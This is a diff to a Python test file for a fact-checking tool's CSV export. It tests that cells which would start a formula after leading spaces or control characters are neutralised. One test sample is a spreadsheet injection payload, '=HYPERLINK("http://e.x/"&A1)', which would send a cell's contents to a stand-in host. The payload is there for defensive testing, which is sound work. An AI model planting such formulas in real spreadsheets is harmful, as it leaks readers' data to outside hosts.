@@ -29,7 +29,7 @@ from factcheck.claimreview import (
     leading_source,
     review_url,
 )
-from factcheck.csvclaims import CSV_COLUMNS, FORMULA_STARTS, csv_text, spreadsheet_safe
+from factcheck.csvclaims import CSV_COLUMNS, FORMULA_STARTS, _as_text, csv_text, spreadsheet_safe
 from factcheck.errors import InputError
 from factcheck.exporting import ExportFormat, export_settings, export_text
 from factcheck.model import Claim, KnowledgeBase, Publisher, Source, Verdict
@@ -456,6 +456,24 @@ def test_no_csv_cell_starts_as_a_formula(value: str) -> None:
     safe = spreadsheet_safe(value)
     assert not safe.startswith(FORMULA_STARTS)
     assert safe in (value, "'" + value)
+
+
+@pytest.mark.parametrize("lead", ["  ", "\n", "\r\n", " \t", "\x00", "\x0b", "\u00a0", "'  ", "\x1f"])
+def test_a_formula_after_leading_spaces_or_control_characters_is_marked_as_text_too(lead: str) -> None:
+    # LibreOffice's import with "Trim spaces" and "Evaluate formulas" runs '  =HYPERLINK(...)'; posts and claims
+    # from others are written by whoever targets the sheet's reader
+    hostile = lead + '=HYPERLINK("http://e.x/"&A1)'
+    assert spreadsheet_safe(hostile) == "'" + hostile
+    assert _as_text(spreadsheet_safe(hostile)) == hostile  # import gives it back as it was
+    plains = ["a =1", " 3 - 2"] + ([] if lead.startswith(FORMULA_STARTS) else [lead + "hello", lead + "'quoted'"])
+    for plain in plains:
+        assert spreadsheet_safe(plain) == plain
+        assert _as_text(plain) == plain
+
+
+@given(st.text())
+def test_import_reads_back_every_cell_export_neutralised(value: str) -> None:
+    assert _as_text(spreadsheet_safe(value)) == value
 
 
 def test_the_source_scan_names_says_what_a_hand_written_appearance_is() -> None:
